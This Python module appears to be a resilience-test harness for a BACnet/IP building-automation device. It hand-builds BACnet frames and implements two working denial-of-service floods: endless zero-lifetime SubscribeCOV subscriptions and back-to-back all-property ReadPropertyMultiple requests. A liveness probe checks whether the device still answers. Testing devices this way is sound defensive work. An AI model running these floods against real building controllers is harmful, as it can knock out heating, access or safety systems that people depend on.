"""BACnet/IP frames built byte by byte (where the exact PDU matters), a
plain UDP client for them, and the attacks: ReadPropertyMultiple of all
properties of all objects, and a flood of COV subscriptions."""

from __future__ import annotations

import asyncio
import socket
import time
from collections.abc import Callable
from typing import Any

SIMPLE_ACK = 0x2


def frame(apdu: bytes) -> bytes:
    """An Original-Unicast-NPDU (BVLL) carrying ``apdu``, expecting a reply."""
    npdu = bytes([0x01, 0x04]) + apdu
    return bytes([0x81, 0x0A, 0, 4 + len(npdu)]) + npdu


def object_id(kind: int, instance: int) -> bytes:
    return (kind << 22 | instance).to_bytes(4, "big")


def read_property(invoke_id: int, device: int) -> bytes:
    """ReadProperty device,``device`` object-name (unsegmented)."""
    return bytes([0x00, 0x05, invoke_id, 12, 0x0C, *object_id(8, device), 0x19, 77])


def subscribe_cov(invoke_id: int, process: int, instance: int, lifetime: int) -> bytes:
    """SubscribeCOV of analog-input ``instance``, unconfirmed notifications
    (``process`` and ``lifetime`` < 256: one octet each)."""
    return bytes([0x00, 0x05, invoke_id, 5, 0x09, process, 0x1C, *object_id(0, instance),
                  0x29, 0x00, 0x39, lifetime])  # fmt: skip


def answer_apdu(data: bytes) -> bytes | None:
    """The APDU of a datagram from the device, None for an unconfirmed
    request (a COV notification, an I-Am) that is no answer."""
    if data[5] & 0x28:
        raise AssertionError(f"unexpected routed answer: {data[:12]!r}")
    return None if data[6] >> 4 == 0x1 else data[6:]


class Raw:
    """A plain UDP socket speaking B/IP frames to the device, on the event loop."""

    def __init__(self, address: str, local: str = "127.0.0.1") -> None:
        host, port = address.split(":")
        self.peer = (host, int(port))
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind((local, 0))
        self.sock.setblocking(False)

    def send(self, apdu: bytes) -> None:
        self.sock.sendto(frame(apdu), self.peer)

    async def answer(self, timeout: float = 3.0) -> bytes | None:
        """The APDU of the next answer (unconfirmed requests such as COV
        notifications passed over), None if none came."""
        loop = asyncio.get_running_loop()
        deadline = loop.time() + timeout
        while True:
            try:
                data = await asyncio.wait_for(
                    loop.sock_recv(self.sock, 2000), max(0.0, deadline - loop.time())
                )
            except TimeoutError:
                return None
            apdu = answer_apdu(data)
            if apdu is not None:
                return apdu

    def close(self) -> None:
        self.sock.close()


def read_device_name(address: tuple[str, int], device: int, timeout: float) -> bool:
    """One ReadProperty of the device's name on a blocking socket (a
    well-behaved client's request): whether a ComplexACK came in time."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(timeout)
        s.sendto(frame(read_property(1, device)), address)
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            try:
                apdu = answer_apdu(s.recv(2000))
            except TimeoutError:
                return False
            if apdu is not None:
                return apdu[0] >> 4 == 0x3 and apdu[1] == 1
    return False


async def cov_flood(
    address: str, hosts: list[str], instances: list[int], until: Callable[[], bool]
) -> dict[str, int]:
    """SubscribeCOV with lifetime 0 (the old device kept those forever) from
    each of ``hosts``, every object of ``instances`` under many process ids,
    256 in flight per host, until ``until()``: how many were accepted
    (simple-ack), refused (error) and not answered."""
    counts = {"sent": 0, "accepted": 0, "refused": 0, "unanswered": 0}

    async def one_host(local: str, offset: int) -> None:
        raw = Raw(address, local)
        n = offset
        try:
            while not until():
                for invoke_id in range(256):
                    instance = instances[n % len(instances)]
                    process = (n // len(instances)) % 256
                    raw.send(subscribe_cov(invoke_id, process, instance, 0))
                    n += 1
                counts["sent"] += 256
                got = 0
                while got < 256 and (apdu := await raw.answer(timeout=2.0)) is not None:
                    got += 1
                    counts["accepted" if apdu[0] >> 4 == SIMPLE_ACK else "refused"] += 1
                counts["unanswered"] += 256 - got
        finally:
            raw.close()

    await asyncio.gather(*(one_host(h, i * 7919) for i, h in enumerate(hosts)))
    return counts


async def rpm_all_flood(
    client: Any, address: str, requests: list[list[Any]], until: Callable[[], bool]
) -> dict[str, int]:
    """ReadPropertyMultiple requests (each a list of (object id, [(property,
    index)]) for rusty-bacnet), one after the other in turn, each sent as
    soon as the previous is answered or refused, until ``until()``: how many
    were answered, aborted or failed otherwise."""
    counts: dict[str, int] = {"answered": 0, "aborted": 0, "failed": 0}
    turn = 0
    while not until():
        try:
            await client.read_property_multiple(address, requests[turn % len(requests)])
            counts["answered"] += 1
        except Exception as exc:  # rusty-bacnet's abort, reject, timeout errors
            counts["aborted" if "Abort" in type(exc).__name__ else "failed"] += 1
        turn += 1
    return counts
